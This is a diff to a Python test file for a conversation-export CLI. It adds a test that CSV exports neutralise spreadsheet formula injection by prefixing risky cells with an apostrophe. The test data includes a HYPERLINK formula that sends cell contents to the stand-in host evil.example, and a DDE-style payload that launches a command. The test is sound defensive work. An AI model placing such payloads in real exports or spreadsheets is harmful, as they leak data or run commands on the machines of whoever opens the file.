@@ -8,7 +8,9 @@ with its reason, and the counters equal the rows.
 from __future__ import annotations
 
 import bz2
+import csv
 import gzip
+import io
 import itertools
 import json
 import lzma
@@ -554,6 +556,46 @@ def test_the_cli_exports_skipped_records(
     assert (
         wrong.exit_code != 0 and "unknown export format" in wrong.output and "Traceback" not in wrong.output
     )
+    # An unknown reason printed nothing and exited 0, as if nothing had been skipped.
+    unknown = runner.invoke(app, ["export", "skipped", "--reason", "too-large"])
+    assert (
+        unknown.exit_code != 0
+        and "unknown reason 'too-large'" in unknown.output
+        and "too_large" in unknown.output
+    )
+
+
+def test_csv_exports_show_text_that_looks_like_a_formula_and_never_run_it(
+    tmp_path: Path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A conversation's text is anyone's to write: ``=HYPERLINK(...)`` in a CSV export ran as a
+    formula in the spreadsheet that opened it. Such cells now start with an apostrophe; the
+    JSONL export keeps the text as written."""
+    from typer.testing import CliRunner
+
+    from convosift.cli import app
+
+    texts = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "\tTab",
+    ]
+    lines = [good(f"f{i}", text=text) | {"subject": text} for i, text in enumerate(texts)]
+    path = write_jsonl(tmp_path / "export.jsonl", [*lines, good("plain", text="Export fails - again")])
+    assert backfill(path, sqlite_url).status is RunStatus.COMPLETED
+    monkeypatch.setenv("CONVOSIFT_DATABASE_URL", sqlite_url)
+    runner = CliRunner()
+    exported = runner.invoke(app, ["export", "conversations", "--format", "csv"])
+    assert exported.exit_code == 0, exported.output
+    by_id = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
+    for i, text in enumerate(texts):
+        assert by_id[f"f{i}"]["subject"] == "'" + text
+    assert by_id["plain"]["subject"] == ""
+    raw = runner.invoke(app, ["export", "conversations"])
+    subjects = {json.loads(line)["id"]: json.loads(line).get("subject") for line in raw.stdout.splitlines()}
+    assert subjects["f0"] == texts[0]
 
 
 @pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity", "1e400", "-2.5e999"])
